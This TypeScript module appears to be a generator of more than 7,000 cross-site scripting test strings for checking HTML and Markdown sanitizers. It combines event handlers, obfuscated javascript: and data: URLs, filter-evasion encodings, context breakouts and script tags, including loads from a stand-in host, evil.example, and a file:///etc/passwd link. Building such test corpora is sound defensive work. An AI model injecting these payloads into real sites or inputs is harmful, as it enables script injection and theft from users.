/**
 * Attacks through HTML, made by combining what the known lists combine: elements, handlers, addresses that run, ways to write each so that
 * a filter overlooks it, and ways out of what stands around.
 */

const HANDLERS =
  'onerror onload onclick onfocus onmouseover ontoggle onbegin onanimationstart onpointerenter onbeforematch'.split(' ');
const ELEMENTS = (
  'img svg body iframe video audio object embed input details marquee form math a div style link meta base table td sub font ' +
  'summary image source select textarea keygen isindex bgsound layer frameset xss x-y'
).split(' ');
const SHAPES: readonly ((element: string, handler: string) => string)[] = [
  (e, h) => `<${e} src=x ${h}=alert(1)>`,
  (e, h) => `<${e}/src=x/${h}=alert(1)//>`,
  (e, h) => `<${e} src='x'${h}='alert(1)' autofocus tabindex=1>a</${e}>`,
  (e, h) => `<${e}\n${h}\n=\n"alert(1)"\n>`,
  (e, h) => `<${e.toUpperCase()} ${h.toUpperCase()}=alert&lpar;1&rpar;>`,
  (e, h) => `"><${e} ${h}=alert(1)>`,
  (e, h) => `<${e} title="</${e}><${e} ${h}=alert(1)>">`,
  (e, h) => `<${e} {...{${h}: alert}} ${h}={alert(1)} style={{background: 'url(//evil.example)'}}>`,
];
const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  'java&Tab;script&colon;alert(1)',
  '&#106;&#97;vascript:alert(1)',
  '&#x6A&#x61vascript:alert(1)',
  '\u0001javascript:alert(1)',
  ' javascript:alert(1)',
  'javascript&#58;alert(1)',
  'jav\\x61script:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/1',
  'view-source:javascript:alert(1)',
  'javascript://%0aalert(1)',
  '%6Aavascript:alert(1)',
  'feed:javascript:alert(1)',
  'file:///etc/passwd',
];
const HOLDERS: readonly ((url: string) => string)[] = [
  (u) => `<a href="${u}">a</a>`,
  (u) => `<a href='${u}' target=_blank ping="//evil.example">a</a>`,
  (u) => `<a href=${u}>a</a>`,
  (u) => `<a xlink:href="${u}">a</a>`,
  (u) => `<img src="${u}">`,
  (u) => `<img srcset="${u} 1x" lowsrc="${u}" dynsrc="${u}">`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<iframe srcdoc="<a href='${u}'>">`,
  (u) => `<video poster="${u}"><source src="${u}"></video>`,
  (u) => `<audio src="${u}" controls></audio>`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<embed src="${u}">`,
  (u) => `<form action="${u}"><button formaction="${u}">a</button></form>`,
  (u) => `<blockquote cite="${u}">a</blockquote>`,
  (u) => `<body background="${u}">`,
  (u) => `<div style="background:url(${u})">a</div>`,
  (u) => `<svg><a xlink:href="${u}"><text>a</text></a><use href="${u}"/></svg>`,
  (u) => `<math><maction actiontype="statusline" xlink:href="${u}">a</maction></math>`,
  (u) => `<meta http-equiv="refresh" content="0;url=${u}"><base href="${u}">`,
  (u) => `<link rel=stylesheet href="${u}"><table background="${u}"><td background="${u}">a</table>`,
  (u) => `[a](${u})`,
  (u) => `[a](<${u}> "a")`,
  (u) => `![a](${u} =3x4)`,
  (u) => `<${u}>`,
  (u) => `[[${u}|a]] ![[${u}]]`,
  (u) => `{% post_link ${u} a %} {% asset_img ${u}.png %} {% bilibili ${u} %}`,
  (u) => `{{< figure src="${u}.png" link="${u}" title="${u}" >}} {{< ref "${u}" >}}`,
  (u) => `[a]({{< ref "${u}" >}}) [a]({% post_link ${u} %})`,
  (u) => `[a]: ${u}\n\n[a] ![b][a]`,
];
const BREAKOUTS = [
  (s: string) => s,
  (s: string) => `</p></div></main></body></html>${s}`,
  (s: string) => `<!--><!--${s}-->`,
  (s: string) => `<noscript><p title="</noscript>${s}">`,
  (s: string) => `<textarea><title><style><xmp>${s}`,
  (s: string) => `<svg><![CDATA[${s}]]></svg>`,
  (s: string) => `<math><mtext><table><mglyph><style><!--</style>${s}`,
  (s: string) => `<pre><code>${s}</code></pre>${s}`,
];
const SCRIPTS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script/x>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<style>@import "//evil.example";</style>',
  '<template><script>alert(1)</script></template>',
  '<img src="x`<script>alert(1)</script>"`onerror=alert(1)>',
  '<a id=getElementById name=cookie>a</a><form name=body><input name=firstChild></form>',
];

/** Distinct, more than 7,000. */
export function listAttacks(): readonly string[] {
  const attacks = new Set<string>();
  for (const element of ELEMENTS)
    for (const handler of HANDLERS) for (const shape of SHAPES) attacks.add(shape(element, handler));
  for (const scheme of SCHEMES)
    for (const holder of HOLDERS) for (const breakout of BREAKOUTS) attacks.add(breakout(holder(scheme)));
  for (const script of SCRIPTS) for (const breakout of BREAKOUTS) attacks.add(breakout(script));
  return [...attacks];
}
